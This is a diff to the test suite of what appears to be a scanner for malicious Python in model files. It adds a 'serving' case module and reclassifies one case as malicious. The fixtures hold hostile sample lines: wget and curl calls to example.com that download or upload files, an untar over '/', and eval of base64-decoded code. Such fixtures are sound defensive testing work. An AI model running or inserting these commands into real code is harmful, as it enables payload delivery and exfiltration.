@@ -17,7 +17,7 @@ from modelsweep.core.options import Options
 from modelsweep.core.report import Verdict
 from tests.scanners.case import Case
 from tests.scanners.payload import EVIL
-from tests.scanners.python_code import replacing
+from tests.scanners.python_code import replacing, serving
 from tests.scanners.python_code.scripts import ALIKE, HONEST
 from tests.scanners.python_code.ways import BENIGN, CRITICAL, WARNING
 
@@ -752,7 +752,7 @@ CASES = {
     "fetched_by_a_model": malicious("import os\nos.system('wget https://example.com/net.bin')\n", "modeling_acme.py"),
     "uploaded": review("import os\nos.system('curl -T net.zip https://example.com/net.zip')\n", "app.py"),
     "unpacked_over_all": review("import os\nos.system('tar -xf net.tar -C /')\n", "app.py"),
-    "method_of_the_same_name": review(
+    "method_of_the_same_name": malicious(
         "import base64\nclass Model:\n    def eval(self):\n        return self\n"
         "    def handle(self, data):\n        return eval(base64.b64decode('cHJpbnQoMSk='))\n",
         "handler.py",
@@ -834,8 +834,9 @@ CASES = {
 CASES |= {f"way_{name}": python(source, Verdict.MALICIOUS) for name, source in CRITICAL.items()}
 CASES |= {f"way_{name}": python(source, Verdict.REVIEW) for name, source in WARNING.items()}
 CASES |= {f"benign_way_{name}": python(source) for name, source in BENIGN.items()}
-CASES |= {f"way_{name}": python(source, Verdict.MALICIOUS) for name, source in replacing.CRITICAL.items()}
-CASES |= {f"way_{name}": python(source, Verdict.REVIEW) for name, source in replacing.WARNING.items()}
-CASES |= {f"benign_way_{name}": python(source) for name, source in replacing.BENIGN.items()}
+for ways in (replacing, serving):
+    CASES |= {f"way_{name}": python(source, Verdict.MALICIOUS) for name, source in ways.CRITICAL.items()}
+    CASES |= {f"way_{name}": python(source, Verdict.REVIEW) for name, source in ways.WARNING.items()}
+    CASES |= {f"benign_way_{name}": python(source) for name, source in ways.BENIGN.items()}
 CASES |= {f"benign_script_{name}": python(source, name=file) for name, (file, source) in HONEST.items()}
 CASES |= {f"script_{name}": python(source, verdict, file) for name, (file, source, verdict) in ALIKE.items()}
